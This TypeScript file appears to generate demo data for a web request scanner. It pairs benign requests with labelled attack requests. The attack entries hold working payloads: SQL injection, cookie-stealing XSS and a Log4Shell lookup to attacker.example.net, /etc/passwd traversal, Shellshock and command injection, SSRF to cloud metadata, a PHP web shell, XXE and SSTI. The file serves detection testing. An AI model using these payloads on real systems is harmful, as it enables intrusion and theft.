/**
 * Writes examples/requests.jsonl, the file `npm run demo` scans: ordinary requests drawn
 * from the benign corpus's scenarios (each with a readable id, some chosen because they
 * look alarming but are legitimate) and clear attacks in different places of a request
 * (query, path, form body, JSON body, multipart, header, cookie).
 *
 *   npx esbuild test/corpora/generate-examples.ts --bundle --platform=node --format=esm --outfile=/tmp/ge.mjs
 *   node /tmp/ge.mjs [output path]      # default: examples/requests.jsonl (from the repo root)
 */
import { writeFileSync } from "node:fs";
import { resolve } from "node:path";
import { pathToFileURL } from "node:url";
import { apiClientHeaders, fetchHeaders, navigationHeaders, pickBrowser, type Body } from "./benign/clients";
import { encodePairs, target } from "./benign/encoding";
import { boundary, multipartBody, multipartContentType } from "./benign/multipart";
import { Random } from "./benign/random";
import { finalize, type CorpusRequest, type Draft, type Header } from "./benign/request";
import * as assets from "./benign/scenarios/assets";
import * as browse from "./benign/scenarios/browse";
import * as forms from "./benign/scenarios/forms";
import * as graphql from "./benign/scenarios/graphql";
import * as infrastructure from "./benign/scenarios/infrastructure";
import * as oauth from "./benign/scenarios/oauth";
import * as rest from "./benign/scenarios/rest";
import * as uploads from "./benign/scenarios/uploads";
import * as webhooks from "./benign/scenarios/webhooks";
import { bearer } from "./benign/tokens";

type Scenario = (r: Random) => Draft;

/** The first draft (seeds 1, 2, 3, ...) that satisfies `wanted`: stable and readable. */
function firstDraft(scenario: Scenario, wanted: (d: Draft) => boolean = () => true): Draft {
  for (let seed = 1; seed < 100_000; seed++) {
    const d = scenario(new Random(seed));
    if (wanted(d)) return d;
  }
  throw new Error(`no seed gives the wanted draft for ${scenario.name}`);
}

const text = (d: Draft): string => `${d.uri}\n${d.body ?? ""}`;

const ORDINARY: readonly (readonly [string, Scenario, ((d: Draft) => boolean)?])[] = [
  ["ok-search", browse.shopSearch, (d) => !d.tags.has("lookalike")],
  ["ok-search-sql-words", browse.shopSearch, (d) => /select|union|drop/i.test(d.uri)],
  ["ok-category-filters", browse.shopCategory, (d) => d.uri.includes("brand=")],
  ["ok-product-page-utm", browse.productPage, (d) => d.uri.includes("utm_source")],
  ["ok-campaign-landing", browse.campaignLanding, (d) => d.uri.includes("gclid")],
  ["ok-login-redirect", browse.accountPage, (d) => d.uri.startsWith("/login?next=")],
  ["ok-blog-post", browse.blogPage],
  ["ok-static-image", assets.staticAsset, (d) => d.uri.startsWith("/_next/image")],
  ["ok-robots-txt", assets.wellKnownFile, (d) => d.uri === "/robots.txt"],
  ["ok-api-list-orders", rest.listOrders, (d) => d.uri.includes("cursor=")],
  ["ok-api-create-order", rest.createOrder, (d) => /O'|D'/.test(d.body ?? "")],
  ["ok-api-patch-task", rest.updateTask],
  ["ok-api-delete", rest.deleteResource, (d) => d.body === null],
  ["ok-api-ticket-code-snippet", rest.createTicket, (d) => d.tags.has("code")],
  ["ok-graphql-query", graphql.graphqlPost, (d) => (d.body ?? "").includes("SearchProducts")],
  ["ok-graphql-mutation", graphql.graphqlPost, (d) => (d.body ?? "").includes("mutation AddToCart")],
  ["ok-form-signup", forms.signupForm],
  ["ok-form-contact-apostrophe", forms.contactForm, (d) => /%27/.test(d.body ?? "") && /O%27|D%27/.test(d.body ?? "")],
  ["ok-form-comment-lookalike", forms.blogComment, (d) => d.tags.has("lookalike")],
  ["ok-upload-csv", uploads.browserUpload, (d) => (d.body ?? "").includes(".csv")],
  ["ok-webhook-stripe", webhooks.stripeWebhook],
  ["ok-webhook-github-push", webhooks.githubWebhook, (d) => d.headers.some(([n, v]) => n === "X-GitHub-Event" && v === "push")],
  ["ok-webhook-slack-command", webhooks.slackSlashCommand],
  ["ok-oauth-callback", oauth.providerCallback],
  ["ok-oauth-token", oauth.tokenExchange, (d) => (d.body ?? "").includes("redirect_uri")],
  ["ok-health-probe", infrastructure.healthProbe],
  ["ok-cors-preflight", infrastructure.corsPreflight],
];

function ordinary(): CorpusRequest[] {
  return ORDINARY.map(([id, scenario, wanted]) => finalize(id, firstDraft(scenario, wanted)));
}

interface Attack {
  id: string;
  family: string;
  place: string;
  build: (r: Random) => Draft;
}

function browserGet(r: Random, host: string, uri: string, cookie: string | null = null): Header[] {
  return navigationHeaders(r, pickBrowser(r), { host, locale: "en-US", cookie, referer: `https://${host}/`, site: "same-origin" });
}

function browserForm(r: Random, host: string, pairs: readonly (readonly [string, string])[]): { headers: Header[]; body: string } {
  const body = encodePairs(pairs, "form");
  const headers = navigationHeaders(r, pickBrowser(r), { host, locale: "en-US", cookie: null, referer: `https://${host}/`, site: "same-origin", origin: `https://${host}`, form: { contentType: "application/x-www-form-urlencoded", text: body } });
  return { headers, body };
}

function jsonCall(r: Random, host: string, method: string, value: unknown): { headers: Header[]; body: string } {
  const body: Body = { contentType: "application/json", text: JSON.stringify(value) };
  const headers = fetchHeaders(r, pickBrowser(r), { host, locale: "en-US", cookie: null, referer: `https://${host}/`, method, origin: `https://${host}`, site: "same-origin", authorization: bearer(r, "4242"), body });
  return { headers, body: body.text };
}

function attackDraft(method: string, uri: string, headers: Header[], body: string | null): Draft {
  return { method, uri, headers, body, tags: new Set() };
}

const ATTACKS: readonly Attack[] = [
  {
    id: "attack-sqli-union", family: "sqli", place: "query",
    build: (r) => {
      const uri = `/products?category=shoes&id=${encodeURIComponent("1 UNION SELECT username, password FROM users-- -")}`;
      return attackDraft("GET", uri, browserGet(r, "shop.example.com", uri), null);
    },
  },
  {
    id: "attack-sqli-blind-time", family: "sqli", place: "query",
    build: (r) => {
      const uri = target("/api/v1/orders", [["id", "42' AND SLEEP(5)-- -"]]);
      return attackDraft("GET", uri, apiClientHeaders(r, "python", { host: "api.example.com", method: "GET" }), null);
    },
  },
  {
    id: "attack-sqli-form-login", family: "sqli", place: "form",
    build: (r) => {
      const { headers, body } = browserForm(r, "app.example.com", [["email", "admin@example.com' OR 1=1-- -"], ["password", "x"]]);
      return attackDraft("POST", "/login", headers, body);
    },
  },
  {
    id: "attack-sqli-cookie", family: "sqli", place: "cookie",
    build: (r) => attackDraft("GET", "/account", browserGet(r, "shop.example.com", "/account", "session=8f14e45fceea167a5a36dedd4bea2543; user_id=1' OR '1'='1' -- "), null),
  },
  {
    id: "attack-xss-script", family: "xss", place: "query",
    build: (r) => {
      const uri = target("/search", [["q", "<script>alert(document.cookie)</script>"]]);
      return attackDraft("GET", uri, browserGet(r, "shop.example.com", uri), null);
    },
  },
  {
    id: "attack-xss-json", family: "xss", place: "json",
    build: (r) => {
      const { headers, body } = jsonCall(r, "api.example.com", "POST", { post_id: 812, body: "Nice post <img src=x onerror=alert(document.domain)>", format: "html" });
      return attackDraft("POST", "/v1/posts/812/comments", headers, body);
    },
  },
  {
    id: "attack-xss-form-svg", family: "xss", place: "form",
    build: (r) => {
      const { headers, body } = browserForm(r, "blog.example.org", [["comment", "<svg/onload=fetch('//attacker.example.net/c?'+document.cookie)>"], ["author", "x"], ["email", "x@example.net"], ["comment_post_ID", "1567"]]);
      return attackDraft("POST", "/wp-comments-post.php", headers, body);
    },
  },
  {
    id: "attack-path-traversal", family: "path-traversal", place: "query",
    build: (r) => {
      const uri = target("/download", [["file", "../../../../etc/passwd"]]);
      return attackDraft("GET", uri, browserGet(r, "docs.example.com", uri), null);
    },
  },
  {
    id: "attack-lfi-encoded", family: "path-traversal", place: "path",
    build: (r) => {
      const uri = "/static/..%252f..%252f..%252f..%252fetc%252fpasswd";
      return attackDraft("GET", uri, apiClientHeaders(r, "curl", { host: "shop.example.com", method: "GET" }), null);
    },
  },
  {
    id: "attack-log4shell", family: "java", place: "header",
    build: (r) => {
      const headers = apiClientHeaders(r, "curl", { host: "api.example.com", method: "GET", extra: [["X-Api-Version", "${jndi:ldap://attacker.example.net:1389/Exploit}"]] });
      return attackDraft("GET", "/v1/status", headers, null);
    },
  },
  {
    id: "attack-cmdi", family: "cmdi", place: "form",
    build: (r) => {
      const { headers, body } = browserForm(r, "app.example.com", [["host", "8.8.8.8; cat /etc/passwd"], ["count", "4"]]);
      return attackDraft("POST", "/tools/ping", headers, body);
    },
  },
  {
    id: "attack-cmdi-shellshock", family: "cmdi", place: "header",
    build: () => attackDraft("GET", "/cgi-bin/status", [["Host", "app.example.com"], ["User-Agent", "() { :; }; /bin/bash -c 'cat /etc/passwd'"], ["Accept", "*/*"]], null),
  },
  {
    id: "attack-ssrf-metadata", family: "ssrf", place: "json",
    build: (r) => {
      const { headers, body } = jsonCall(r, "api.example.com", "POST", { name: "order events", url: "http://169.254.169.254/latest/meta-data/iam/security-credentials/", events: ["order.created"] });
      return attackDraft("POST", "/v1/webhooks", headers, body);
    },
  },
  {
    id: "attack-scanner-ua", family: "scanner", place: "header",
    build: () => attackDraft("GET", "/admin/config.php", [["Host", "shop.example.com"], ["User-Agent", "sqlmap/1.8.4#stable (https://sqlmap.org)"], ["Accept", "*/*"], ["Accept-Encoding", "gzip,deflate"], ["Connection", "close"]], null),
  },
  {
    id: "attack-php-injection", family: "php", place: "multipart",
    build: (r) => {
      const b = boundary(r, "webkit");
      const body = multipartBody(b, [
        { kind: "field", name: "folder_id", value: "12" },
        { kind: "file", name: "file", filename: "avatar.php", contentType: "image/png", content: "<?php system($_GET['cmd']); ?>\n" },
      ]);
      const headers = fetchHeaders(r, pickBrowser(r), { host: "app.example.com", locale: "en-US", cookie: null, method: "POST", origin: "https://app.example.com", site: "same-origin", body: { contentType: multipartContentType(b), text: body } });
      return attackDraft("POST", "/uploads", headers, body);
    },
  },
  {
    id: "attack-crlf", family: "crlf", place: "query",
    build: (r) => {
      const uri = "/redirect?to=%2F%0D%0ASet-Cookie%3A%20session%3Dattacker";
      return attackDraft("GET", uri, browserGet(r, "shop.example.com", uri), null);
    },
  },
  {
    id: "attack-nosql-json", family: "nosql", place: "json",
    build: (r) => {
      const { headers, body } = jsonCall(r, "api.example.com", "POST", { email: { $ne: null }, password: { $ne: null } });
      return attackDraft("POST", "/v1/auth/login", headers, body);
    },
  },
  {
    id: "attack-xxe", family: "xxe", place: "body",
    build: (r) => {
      const body = '<?xml version="1.0"?>\n<!DOCTYPE order [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<order><note>&xxe;</note></order>\n';
      return attackDraft("POST", "/v1/orders/import", apiClientHeaders(r, "curl", { host: "api.example.com", method: "POST", body: { contentType: "application/xml", text: body } }), body);
    },
  },
  {
    id: "attack-ssti", family: "template", place: "query",
    build: (r) => {
      const uri = target("/greeting", [["name", "{{self.__init__.__globals__.__builtins__.__import__('os').popen('id').read()}}"]]);
      return attackDraft("GET", uri, browserGet(r, "app.example.com", uri), null);
    },
  },
];

function attacks(): CorpusRequest[] {
  return ATTACKS.map((attack, index) => {
    const request = finalize(attack.id, attack.build(new Random(1000 + index)));
    // Attack records carry their own tags instead of the benign taxonomy.
    return { ...request, tags: ["attack", attack.family, attack.place] };
  });
}

/** The examples file's exact contents: ordinary requests first, then attacks. */
export function generateExamples(): string {
  return [...ordinary(), ...attacks()].map((request) => JSON.stringify(request)).join("\n") + "\n";
}

function isMain(): boolean {
  const entry = process.argv[1];
  return entry !== undefined && import.meta.url === pathToFileURL(resolve(entry)).href;
}

if (isMain()) {
  const output = resolve(process.argv[2] ?? "examples/requests.jsonl");
  const contents = generateExamples();
  writeFileSync(output, contents);
  process.stderr.write(`wrote ${contents.split("\n").length - 1} example requests to ${output}\n`);
}
